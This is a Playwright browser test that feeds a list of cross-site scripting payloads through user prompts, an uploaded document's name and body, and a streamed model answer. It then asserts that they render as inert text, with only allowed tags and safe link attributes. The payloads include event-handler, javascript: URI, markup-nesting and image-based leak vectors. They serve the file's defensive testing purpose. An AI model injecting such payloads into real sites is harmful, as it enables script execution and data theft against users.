"""Hostile text stays text, whoever wrote it: the user, a document, or a model that repeats one."""

from __future__ import annotations

import re

import pytest
from playwright.sync_api import expect

from tests.kit.browser import Visit
from tests.kit.server import Server
from tests.kit.upstream import Upstream

pytestmark = pytest.mark.browser


HOSTILE = [
    "<img src=x onerror=window.pwned=1>",
    "<script>window.pwned=1</script>",
    "<svg onload=window.pwned=1><a xlink:href='javascript:window.pwned=1'>x</a></svg>",
    "[press](javascript:window.pwned=1) [press](data:text/html,<script>window.pwned=1</script>)",
    "[press](java\tscript:window.pwned=1) <javascript:window.pwned=1>",
    '![picture](http://192.0.2.1/leak.png?q=secret) ![x](x" onerror="window.pwned=1)',
    "<iframe src='http://192.0.2.1/'></iframe><object data=x></object><embed src=x>",
    "<form action='http://192.0.2.1/'><button>Sign in</button></form><input autofocus onfocus=window.pwned=1>",
    "<style>body { display: none }</style><link rel=stylesheet href='http://192.0.2.1/x.css'>",
    "<a href='javascript:window.pwned=1' id=composer name=composer>press</a><base href='http://192.0.2.1/'>",
    "<div style='position:fixed;inset:0;background:url(http://192.0.2.1/)'>over</div>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1></style></mglyph></table></mtext></math>",
    "```<img src=x onerror=window.pwned=1>\n<img src=x onerror=window.pwned=1>\n```",
    "<details open ontoggle=window.pwned=1><summary>s</summary></details> <meta http-equiv=refresh content=0;url=http://192.0.2.1/>",
]


ALLOWED = {
    *("h3", "h4", "h5", "h6", "p", "ul", "ol", "li", "blockquote", "pre", "hr", "br", "div", "button"),
    *("table", "thead", "tbody", "tr", "th", "td", "a", "code", "del", "em", "kbd", "strong", "sub", "sup"),
}


def test_hostile_text_stays_text_wherever_it_appears(
    visit: Visit, online: Server, provider: Upstream, name: str
) -> None:
    ada = visit(online).come(name)
    page = ada.page
    everything = "\n\n".join(HOSTILE)
    ada.add("<img src=x onerror=window.pwned=1>.md", f"# <script>window.pwned=1</script>\n\n{everything}".encode())
    provider.enqueue(*(everything[at : at + 7] for at in range(0, len(everything), 7)), " [1]")
    turn = ada.answered(f"{HOSTILE[0]} {HOSTILE[1]}")
    for source in turn.locator(".source").all():
        source.click()
        expect(ada.dialog.locator(".passage")).to_be_visible()
        page.keyboard.press("Escape")
    ada.button("Documents").click()
    expect(ada.dialog.locator(".card")).to_contain_text("<img src=x onerror=window.pwned=1>.md")
    page.keyboard.press("Escape")
    page.reload()
    expect(turn.locator(".prompt p")).to_have_text(f"{HOSTILE[0]} {HOSTILE[1]}")

    made = page.evaluate(
        """() => [...document.querySelectorAll('.prose *')].map((element) =>
          [element.localName, [...element.attributes].map(({ name, value }) => `${name}=${value}`)])"""
    )
    assert {tag for tag, _ in made} <= ALLOWED
    attributes = [attribute for _, found in made for attribute in found]
    assert not [
        attribute for attribute in attributes if re.match(r"on|style|id=|name=|src|href=(?!https?:|mailto:)", attribute)
    ]
    links = page.locator(".prose a")
    assert {link.get_attribute("rel") for link in links.all()} == {"noopener noreferrer nofollow"}
    for link in links.all():
        assert link.get_attribute("target") == "_blank"
    assert page.evaluate("window.pwned") is None
